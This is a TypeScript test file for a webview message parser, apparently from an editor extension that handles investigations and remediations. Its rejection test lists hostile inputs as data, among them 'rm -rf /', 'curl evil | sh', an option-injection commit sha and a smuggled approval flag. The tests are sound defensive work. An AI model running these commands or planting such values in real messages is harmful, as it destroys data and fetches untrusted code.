import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parseRestoredPanelState, parseWebviewMessage, RestoredPanelStateSchema } from '../../../src/shared/protocolSchemas';

test('valid webview messages pass', () => {
  assert.deepEqual(parseWebviewMessage({ type: 'ready' }), { ok: true, message: { type: 'ready' } });
  assert.deepEqual(parseWebviewMessage({ type: 'openCode', evidenceId: 'E1', index: 0 }), { ok: true, message: { type: 'openCode', evidenceId: 'E1', index: 0 } });
  assert.equal(parseWebviewMessage({ type: 'openCommit', sha: 'abc1234' }).ok, true);
  assert.equal(parseWebviewMessage({ type: 'applyRemediation', remediationId: 'R1' }).ok, true);
  assert.equal(parseWebviewMessage({ type: 'copyQuery', queryId: 'Q7' }).ok, true);
  assert.equal(parseWebviewMessage({ type: 'findTemplate', evidenceId: 'E2', index: 0 }).ok, true);
});

test('invalid messages are rejected with a reason', () => {
  for (const raw of [
    undefined,
    'ready',
    { type: 'runShell', command: 'rm -rf /' },
    { type: 'openCode', evidenceId: 'E1', index: -1 },
    { type: 'openCode', evidenceId: 'E1', index: 1.5 },
    { type: 'openCommit', sha: '--output=/tmp/x' },
    { type: 'applyRemediation', remediationId: '' },
    // No pre-approval can ride along: unknown keys are refused.
    { type: 'applyRemediation', remediationId: 'R1', decision: 'approved' },
    // A command line cannot ride along with a query id either.
    { type: 'copyQuery', queryId: 'Q1', command: 'curl evil | sh' },
    { type: 'copyQuery', queryId: '' },
    { type: 'findTemplate', evidenceId: 'E2', index: -3 },
    { type: 'findTemplate', evidenceId: 'E2', template: 'grep this' },
  ]) {
    const parsed = parseWebviewMessage(raw);
    assert.equal(parsed.ok, false, JSON.stringify(raw));
    if (!parsed.ok) assert.ok(parsed.error.length > 0);
  }
});

test('the restored panel state yields the node reference, tolerating extra fields', () => {
  const parsed = RestoredPanelStateSchema.safeParse({ view: { investigationId: 'INV-1', ref: { kind: 'hypothesis', hypothesisId: 'H1' }, title: 'x' } });
  assert.equal(parsed.success, true);
  assert.equal(RestoredPanelStateSchema.safeParse({ view: { investigationId: 'INV-1', ref: { kind: 'bogus' } } }).success, false);
  assert.equal(RestoredPanelStateSchema.safeParse({}).success, true);
  assert.deepEqual(parseRestoredPanelState({ view: { investigationId: 'INV-1', ref: { kind: 'rootCause' } } }), { investigationId: 'INV-1', ref: { kind: 'rootCause' } });
  assert.equal(parseRestoredPanelState('garbage'), undefined);
});
